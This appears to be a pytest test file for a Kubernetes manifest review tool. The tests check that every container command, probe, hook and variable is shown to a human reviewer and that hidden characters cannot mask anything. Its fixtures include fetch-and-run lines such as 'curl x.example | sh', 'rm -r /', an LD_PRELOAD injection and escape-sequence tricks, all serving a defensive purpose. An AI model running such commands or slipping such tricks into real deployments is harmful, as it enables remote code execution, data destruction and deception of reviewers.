"""A person who is to vouch for manifests sees every image and every command in them, and nothing hides one."""

from pathlib import Path
from typing import Any

import pytest

from signoff.core.redact import scrubbed
from signoff.kube import commands
from signoff.kube.objects import Manifest
from signoff.kube.secrets import learned


def shown(body: dict[str, Any]) -> str:
    return "\n".join(commands.told([Manifest(Path("all.yaml"), "", {"metadata": {"name": "x"}, **body})]))


def of(*containers: dict[str, Any], **spec: Any) -> dict[str, Any]:
    return {"kind": "Deployment", "spec": {"template": {"spec": {"containers": list(containers), **spec}}}}


def test_images_commands_probes_and_hooks_are_shown() -> None:
    probes = {f"{each}Probe": {"exec": {"command": [f"look-{each}"]}} for each in ("startup", "readiness", "liveness")}
    hooks = {each: {"exec": {"command": [f"do-{each}"]}} for each in ("postStart", "preStop")}
    main = {"name": "main", "image": "a/b:1", "command": ["sh", "-c"], "args": ["curl x | sh"], **probes}
    first = {"name": "first", "image": "c/d:2", "args": ["--all"]}
    assert shown(of({**main, "lifecycle": hooks}, initContainers=[first])).splitlines() == [
        "Deployment/x (all.yaml:1)",
        "  container main: a/b:1",
        "    runs: sh -c 'curl x | sh'",
        "    startupProbe runs: look-startup",
        "    readinessProbe runs: look-readiness",
        "    livenessProbe runs: look-liveness",
        "    postStart runs: do-postStart",
        "    preStop runs: do-preStop",
        "  init container first: c/d:2",
        "    runs its image's program with: --all",
    ]


def test_whatever_makes_pods_is_shown() -> None:
    pods = {"containers": [{"name": "main", "image": "a", "command": ["rm", "-r", "/"]}]}
    job = {"kind": "CronJob", "spec": {"jobTemplate": {"spec": {"template": {"spec": pods}}}}}
    assert "runs: rm -r /" in shown(job)


def test_what_makes_no_pods_is_left_out() -> None:
    assert shown({"kind": "ConfigMap", "data": {"containers": "x"}}) == ""


def test_no_letter_hides_another() -> None:
    said = shown(of({"name": "main", "image": "a", "command": ["rm -r /\x1b[2K\rls", "\u202egpj"]}))
    assert r"rm -r /\x1b[2K\rls" in said
    assert r"\u202egpj" in said


@pytest.mark.parametrize("odd", ["a\x1b[8m", "a\n  container fine: b"])
def test_no_name_hides_another_line(odd: str) -> None:
    body = of({"name": odd, "image": odd, "command": ["rm"], "env": [{"name": odd, "value": "1"}]})
    manifest = Manifest(Path(f"{odd}.yaml"), "", {"metadata": {"name": odd}, **body})
    lines = list(commands.told([manifest]))
    assert len(lines) == 4
    assert all(line.isprintable() for line in lines)


def test_each_line_of_a_script_is_shown_below_its_container() -> None:
    said = shown(of({"name": "main", "image": "a", "command": ["sh", "-c", "one\n  container fine: b\ntwo"]}))
    assert said.splitlines()[2:] == ["    runs: sh -c 'one", "        container fine: b", "      two'"]


@pytest.mark.parametrize(
    "odd",
    [
        {"readinessProbe": "x"},
        {"readinessProbe": {"exec": [1]}},
        {"readinessProbe": {"exec": {"command": 3}}},
        {"lifecycle": [1]},
        {"lifecycle": {"preStop": "x"}},
        {"env": ["x"]},
    ],
)
def test_what_is_no_probe_hook_or_variable_is_shown_all_the_same(odd: dict[str, Any]) -> None:
    """The API server refuses it; a person sees what there is."""
    assert "  container main: i" in shown(of({"name": "main", "image": "i", **odd}))


def test_variables_are_shown_since_they_may_be_what_runs() -> None:
    reference = {"secretKeyRef": {"name": "s", "key": "k"}}
    variables = [{"name": "LD_PRELOAD", "value": "/kept/x.so"}, {"name": "A", "valueFrom": reference}]
    said = shown(of({"name": "main", "image": "i", "env": variables}))
    assert "    with LD_PRELOAD: /kept/x.so" in said
    assert "secretKeyRef" in said


def test_no_secret_of_the_manifests_hides_a_part_of_a_command() -> None:
    secret = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": "s"},
        "stringData": {"a": "curl x.example | sh"},
    }
    learned([Manifest(Path("all.yaml"), "", secret)])
    assert "curl" not in scrubbed("curl x.example | sh")
    assert "runs: sh -c 'curl x.example | sh'" in shown(
        of({"name": "main", "image": "a", "command": ["sh", "-c", "curl x.example | sh"]})
    )
